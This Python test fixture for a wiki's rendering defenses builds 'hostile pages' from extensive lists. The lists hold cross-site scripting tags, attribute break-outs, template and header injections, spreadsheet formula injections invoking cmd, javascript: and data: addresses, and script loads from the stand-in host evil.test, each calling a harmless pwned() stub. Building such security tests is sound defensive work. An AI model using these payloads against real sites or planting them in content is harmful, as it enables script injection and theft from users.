"""Hostile texts of the known families, our own list, and pages that hold them everywhere.

Each one calls `pwned()` where a browser would run it; nothing here works anywhere else.
"""

import re
from collections.abc import Iterator
from itertools import cycle

from app.domain import front_matter
from app.domain.page import parse_page
from app.domain.page_path import PagePath
from tests.web.pages import CAFE, CONSEIL, LICENCE_UNIT, NETWORK, PORTAL

TAGS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT >",
    "<script\x0c>pwned()</script>",
    "<script/x>pwned()</script/x>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script src=//evil.test/x.js></script>",
    "<script src=data:text/javascript,pwned()></script>",
    "<script type=module>pwned()</script>",
    "<<script>pwned();//<</script>",
    "<img src=x onerror=pwned()>",
    "<img/src=x/onerror=pwned()>",
    "<IMG SRC=x ONERROR=pwned()>",
    "<img src=x onerror='pwned()'",
    "<img src onerror\n=\npwned()>",
    "<image src=x onerror=pwned()>",
    "<img srcset='x 1x' onerror=pwned()>",
    "<img src=`x`onerror=pwned()>",
    "<body onload=pwned()>",
    "<body onpageshow=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<video onerror=pwned()><source src=x></video>",
    "<audio src=x onerror=pwned()>",
    "<video src=x onloadstart=pwned()>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<iframe src=javascript:pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<frameset onload=pwned()>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x>",
    "<link rel=import href=data:text/html,x>",
    "<div onmouseover=pwned()>x</div>",
    "<div onpointerenter=pwned() tabindex=1>x</div>",
    "<button onclick=pwned()>x</button>",
    "<button popovertarget=x onbeforetoggle=pwned()>x</button><b popover id=x>x</b>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<isindex action=javascript:pwned()>",
    "<button form=x formaction=javascript:pwned()>x</button>",
    "<x contenteditable onblur=pwned()>x</x>",
    "<x onfocusin=pwned() tabindex=1 id=x>x</x>",
    "<a autofocus onfocus=pwned() href=#>x</a>",
    "<style>@import'//evil.test/x.css'</style>",
    "<style>*{background:url(//evil.test/x)}</style>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=pwned()>x</b>",
    "<div style=background:url(//evil.test/x)>x</div>",
    "<div style=width:expression(pwned())>x</div>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()//",
    "<svg><script>pwned()</script></svg>",
    "<svg><script href=data:text/javascript,pwned() /></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:pwned() />",
    "<svg><use href=data:image/svg+xml,x /></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwned()>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<math><a xlink:href=javascript:pwned()>x</a></math>",
    "<math><mi//xlink:href='data:x,<script>pwned()</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<xmp><p title='</xmp><img src=x onerror=pwned()>'>",
    "<template><img src=x onerror=pwned()></template>",
    "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
    "<!--><img src=x onerror=pwned()>-->",
    "<!-- --!><img src=x onerror=pwned()> -->",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<?xml?><img src=x onerror=pwned()>",
    "</textarea><img src=x onerror=pwned()>",
    "</title><img src=x onerror=pwned()>",
    "</script><script>pwned()</script>",
    "</style><img src=x onerror=pwned()>",
    "<s id=x tabindex=1 onfocus=pwned()></s>",
    "<img name=getElementById src=x onerror=pwned()>",
    "<img name=body><form id=form name=querySelector><input name=attributes></form>",
)
BREAK_OUTS = (
    '" onmouseover=pwned() x="',
    "' onmouseover=pwned() x='",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "` onmouseover=pwned() `",
    '" autofocus onfocus=pwned() x="',
    '" style=animation-name:x onanimationend=pwned() "',
    '\\"><script>pwned()</script>',
    "';pwned();//",
    '";pwned();//',
    "</script><img src=x onerror=pwned()>",
    "${pwned()}",
    "#{pwned()}",
    "{{7*7}}{{pwned()}}",
    "{% import os %}{{config}}",
    "<%= pwned() %>",
    "{{constructor.constructor('pwned()')()}}",
    "]]><img src=x onerror=pwned()>",
    "--><img src=x onerror=pwned()>",
    "*/pwned()/*",
    "\u2028pwned()//",
    "&lt;img src=x onerror=pwned()&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "&#x3c;script&#x3e;pwned()",
    "%3Cimg src=x onerror=pwned()%3E",
    "\\u003cimg src=x onerror=pwned()\\u003e",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "x\r\nX-Evil: 1\r\n\r\n<script>pwned()</script>",
    "%0d%0aSet-Cookie:x=1%0d%0a%0d%0a<script>pwned()</script>",
    "<img src=x\x00 onerror=pwned()>",
    "\ufeff<img src=x onerror=pwned()>",
    "\u202e<img src=x onerror=pwned()>\u202c",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "\u2066\u202egnp.exe\u2069",
    '=HYPERLINK("//evil.test")',
    "+1+cmd|' /C x'!A0",
    "-2+3+cmd|' /C x'!A0",
    "@SUM(1+1)*cmd|' /C x'!A0",
    "\t=1+1",
    "__proto__",
    "constructor",
)
ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "javascript&colon;pwned()",
    "javascript&#58;pwned()",
    "&#106;avascript:pwned()",
    "java\tscript:pwned()",
    "java&Tab;script:pwned()",
    "java&NewLine;script:pwned()",
    "\x01javascript:pwned()",
    "javascript://%0apwned()",
    "javascript:/*--></title></style>*/pwned()",
    "javascript%3Apwned()",
    "feed:javascript:pwned()",
    "data:text/html,<script>opener.pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "DATA:text/html,<script>pwned()</script>",
    "data:image/svg+xml,<svg onload=pwned()>",
    "vbscript:pwned()",
    "view-source:javascript:pwned()",
    "blob:null/pwned",
    "filesystem:x",
    "jar:javascript:pwned()!/",
    "ws:x",
    "//evil.test/x.js",
    "\\\\evil.test\\x",
    "/\\evil.test/x",
    "https:evil.test",
    'https://a.example/"onmouseover=pwned()//',
    "https://a.example/'onmouseover='pwned()",
    "x:javascript:pwned()",
)
EVERY = (*TAGS, *BREAK_OUTS, *ADDRESSES)

PLACES = (
    "{p}",
    "# {p}",
    "- {p}",
    "> {p}",
    "| {p} | b |\n| --- | --- |\n| {p} | x |",
    "**{p}** *{p}*",
    "`{p}`",
    "```{p}\n{p}\n```",
    "    {p}",
    "[{p}](/lieux)",
    "[mots]({p})",
    "[mots](<{p}>)",
    '[mots](/lieux "{p}")',
    "![{p}](/media/x.png)",
    "![mots]({p})",
    "![mots](/media/x.png '{p}')",
    "<{p}>",
    "[r][{n}]\n\n[{n}]: {p}",
    '[r][b{n}]\n\n[b{n}]: <{p}> "{p}"',
    "Note[^{n}].\n\n[^{n}]: {p}",
    "[^{p}]\n\n[^{p}]: {p}",
    "[[{p}]]",
    "[[page/x|{p}]]",
    "[[{p}|mots]]",
    "[[{p}:place/x]]",
    "[[evil.test:place/{p}|{p}]]",
    ":::{p}\n{p}\n:::",
    ':::info title="{p}"\n{p}\n:::',
    ':::list kind=place title="{p}" region={p}\n:::',
    ":::steps\n1. {p}\n:::",
    "{p}\n===",
    "Terme\n: {p}",
    ":::quiz id={p}\n{p}\n\n- [x] {p}\n  > {p}\n- [ ] {p}\n  > {p}\n:::",
    ":::quiz id=q{n}\n{p} ?\n\n- [x] {p}\n  > {p}\n:::",
    "<div>\n\n{p}\n\n</div>",
    "<details><summary>{p}</summary>{p}</details>",
    '<p title="{p}">x</p>',
    '<a href="{p}">x</a>',
    "~~{p}~~",
    "https://a.example/{p}",
    "<https://a.example/{p}>",
    "{{.x #y onclick={p}}}",
)


def markdown(texts: tuple[str, ...], places: tuple[str, ...] = PLACES, *, first: int = 0) -> str:
    """Each text in every fourth place, a block each: neighbours take turns."""
    blocks = [
        place.replace("{p}", text).replace("{n}", f"{first + row}-{column}")
        for row, text in enumerate(texts)
        for column, place in enumerate(places)
        if (row + column) % 4 == 0
    ]
    return "\n\n".join(blocks)


def in_parts(texts: tuple[str, ...], number: int) -> list[tuple[str, ...]]:
    return [texts[start::number] for start in range(number)]


# No page file may hold other control signs: they are tried through forms and addresses.
WRITABLE = tuple(re.sub(r"[\x00-\x08\x0b-\x1f]+", " ", text) for text in EVERY)

# Keys that name something of the wiki: other words there only make a page that does not show.
_NAMES = frozenset(
    "kind id lang licence status type medium select view form quiz country region".split()
)


def poisoned(file: str, texts: Iterator[str]) -> str:
    """A page whose every free word is a hostile text."""
    page = parse_page(PagePath("page", "modele"), file)
    return front_matter.compose(_poison(dict(page.front), texts), page.body)


def _poison(value: object, texts: Iterator[str], key: str = "") -> object:
    if isinstance(value, dict):
        return {k: _poison(v, texts, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_poison(one, texts, key) for one in value]
    return next(texts) if isinstance(value, str) and key not in _NAMES else value


MODELS = {
    "place": CAFE,
    "method": CONSEIL,
    "mini_cool": LICENCE_UNIT,
    "organisation": NETWORK,
    "portal": PORTAL,
}


def hostile_pages() -> dict[PagePath, str]:
    """Pages as git alone would bring them, checked by nobody."""
    texts = cycle(WRITABLE)
    found = {
        PagePath(kind, f"mechant-{number}"): poisoned(model, texts)
        for kind, model in MODELS.items()
        for number in range(4)
    }
    for number, some in enumerate(in_parts(WRITABLE, 4)):
        front = "---\nkind: page\ntitle: Méchante\nlang: fr\nlicence: CC-BY-SA-4.0\n---\n\n"
        found[PagePath("page", f"texte-{number}")] = (
            f"{front}{markdown(some, first=number * 9999)}\n"
        )
    return found
